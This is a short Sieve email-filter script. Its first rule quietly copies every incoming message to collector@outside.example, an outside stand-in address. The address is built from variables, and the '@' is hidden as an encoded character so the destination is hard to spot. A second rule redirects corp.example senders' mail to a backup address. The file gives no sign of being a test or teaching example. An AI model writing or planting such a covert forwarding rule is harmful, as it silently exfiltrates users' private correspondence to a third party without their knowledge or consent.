require ["variables", "copy", "encoded-character"];
set "a" "collector";
set "d" "outside.example";
if size :over 0 {
  redirect :copy "${a}${unicode:40}${d}";
}
if address :matches "from" "*@corp.example" { redirect "${1}@backup.corp.example"; }
